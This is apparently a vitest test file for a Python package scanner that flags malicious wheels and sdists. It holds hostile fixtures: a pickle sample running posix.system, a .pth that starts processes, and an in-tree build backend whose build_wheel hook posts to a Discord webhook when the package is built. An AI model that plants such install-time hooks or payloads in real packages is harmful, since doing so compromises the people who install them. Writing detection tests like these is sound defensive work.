import { existsSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ALL_RULES } from '../../core/registry.js';
import { PROBE_BYTES, type Probe } from '../../core/scanner.js';
import { buildTar, buildZip } from '../../targets/test-archives.js';
import { packageScanner } from './index.js';
import { scanPackageForTest } from './test-support.js';

const DIST = resolve(import.meta.dirname, '../../../test/fixtures/package/dist');
const encoder = new TextEncoder();

function probe(path: string, head: Uint8Array = new Uint8Array(0)): Probe {
  return { path, head: head.subarray(0, PROBE_BYTES), size: head.length };
}

describe('packageScanner.detect', () => {
  it('claims wheels and sdists by name, legacy hyphenated names included', () => {
    expect(packageScanner.detect(probe('dist/torch-2.3.0-cp311-cp311-linux_x86_64.whl'))).toBe('wheel');
    expect(packageScanner.detect(probe('python-dateutil-2.8.2.tar.gz'))).toBe('sdist');
    expect(packageScanner.detect(probe('requests-2.31.0.tgz'))).toBe('sdist');
    expect(packageScanner.detect(probe('numpy-1.26.4.tar.bz2'))).toBe('sdist');
  });

  it('leaves archives without a version to the model scanner', () => {
    expect(packageScanner.detect(probe('checkpoint.tar.gz'))).toBeUndefined();
    expect(packageScanner.detect(probe('model-v2.tar.gz'))).toBeUndefined();
  });

  it('claims a zip only when its first member sits in the name-version folder it promises', () => {
    const sdist = buildZip({ members: [{ name: 'tiny-1.0/setup.py', data: encoder.encode('') }] });
    const bundle = buildZip({ members: [{ name: 'archive/data.pkl', data: encoder.encode('') }] });
    expect(packageScanner.detect(probe('tiny-1.0.zip', sdist))).toBe('sdist');
    expect(packageScanner.detect(probe('bert-1.0.zip', bundle))).toBeUndefined();
  });
});

describe('realistic benign packages score clean', () => {
  it.each([
    'plainlib-1.4.2.tar.gz',
    'plainlib-1.4.2-py3-none-any.whl',
    'fastsum-0.3.1.tar.gz',
    'fastsum-0.3.1-cp311-cp311-linux_x86_64.whl',
    'acme.vision-1.0.0.tar.gz',
    'acme.vision-1.0.0-py3-none-any.whl',
  ])('%s', async (name) => {
    const { format, findings } = await scanPackageForTest(resolve(DIST, name));
    expect(format).toBe(name.endsWith('.whl') ? 'wheel' : 'sdist');
    expect(findings).toEqual([]);
  });
});

describe('what a package carries', () => {
  it('hands bundled model files to the model scanner, and counts their findings in the risk score', async () => {
    for (const name of ['sentiment_kit-0.2.0-py3-none-any.whl', 'sentiment_kit-0.2.0.tar.gz']) {
      const { findings } = await scanPackageForTest(resolve(DIST, name));
      const pickle = findings.find((finding) => finding.ruleId === 'MODEL-PICKLE-001');
      expect(pickle?.evidence, name).toBe("posix.system('echo pwned')");
      expect(pickle?.member, name).toMatch(/sentiment_kit\/model\.pkl$/);
      expect(findings.find((finding) => finding.ruleId === 'PKG-RISK-001')?.message, name).toContain(
        'MODEL-PICKLE-001 (sentiment_kit/model.pkl)',
      );
    }
  });

  it("rates a .pth shipped in a wheel by what it runs, and accepts setuptools' namespace template", async () => {
    const evil = await scanPackageForTest(resolve(DIST, 'telemetry_boost-2.1.0-py3-none-any.whl'));
    expect(evil.findings.map((finding) => [finding.ruleId, finding.severity])).toEqual([
      ['PKG-PTH-001', 'critical'],
      ['PKG-RISK-001', 'critical'],
    ]);
    expect(evil.findings[0]?.message).toContain('subprocess.Popen (starts a process)');
  });

  it('reports a binary in a pure wheel or an sdist but not the extension module of a platform wheel', async () => {
    const wheel = await scanPackageForTest(resolve(DIST, 'gpu_helper-0.4.0-py3-none-any.whl'));
    expect(wheel.findings.map((finding) => [finding.ruleId, finding.evidence])).toEqual([
      ['PKG-BIN-001', 'ELF gpu_helper/bin/gpuprobe (8800 bytes)'],
    ]);
  });
});

describe("Debian's pip and setuptools wheels (python3-venv brings them)", () => {
  const folder = '/usr/share/python-wheels';
  const wheels = existsSync(folder) ? readdirSync(folder).filter((name) => name.endsWith('.whl')) : [];

  it('are present, since CI installs python3-venv', () => {
    expect(wheels.length).toBeGreaterThanOrEqual(2);
  });

  it.each(wheels)(
    '%s scores clean: launcher stubs, vendored requests and setup code are what pip is',
    async (name) => {
      const { findings } = await scanPackageForTest(join(folder, name));
      expect(
        findings.map((finding) => `${finding.ruleId} ${finding.member ?? ''}: ${finding.message}`),
      ).toEqual([]);
    },
    60_000,
  );
});

describe('an in-tree build backend', () => {
  it('counts threats in its module as code that runs unasked, once pyproject.toml names it', async () => {
    const file = (name: string, text: string): { name: string; data: Uint8Array } => ({
      name: `hookpkg-1.0/${name}`,
      data: encoder.encode(text),
    });
    const tar = buildTar([
      // The backend streams by before pyproject.toml, as in setuptools' sorted sdists.
      file(
        '_build/backend.py',
        [
          'import requests',
          'from setuptools import build_meta as _orig',
          'HOOK = "https://discord.com/api/webhooks/123456789012345678/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"',
          'def build_wheel(directory, settings=None, metadata=None):',
          '    requests.post(HOOK, json={"content": "built"})',
          '    return _orig.build_wheel(directory, settings, metadata)',
        ].join('\n'),
      ),
      file('hookpkg/__init__.py', ''),
      file('PKG-INFO', 'Metadata-Version: 2.1\nName: hookpkg\nVersion: 1.0\nSummary: Hooks into builds\n'),
      file('pyproject.toml', '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'),
    ]);
    const path = join(mkdtempSync(join(tmpdir(), 'mlsec-backend-')), 'hookpkg-1.0.tar.gz');
    writeFileSync(path, gzipSync(tar));
    // Without PKG-INST-003 (pyproject.toml itself runs unasked), only the backend module can make it so.
    const enabledRules = ALL_RULES.map((rule) => rule.id).filter((id) => id !== 'PKG-INST-003');
    const { findings } = await scanPackageForTest(path, { enabledRules });
    const risk = findings.find((finding) => finding.ruleId === 'PKG-RISK-001');
    expect(risk?.message).toContain('threats PKG-EXF-002 (_build/backend.py:3);');
    expect(risk?.message).toContain('runs without being called');
  });
});
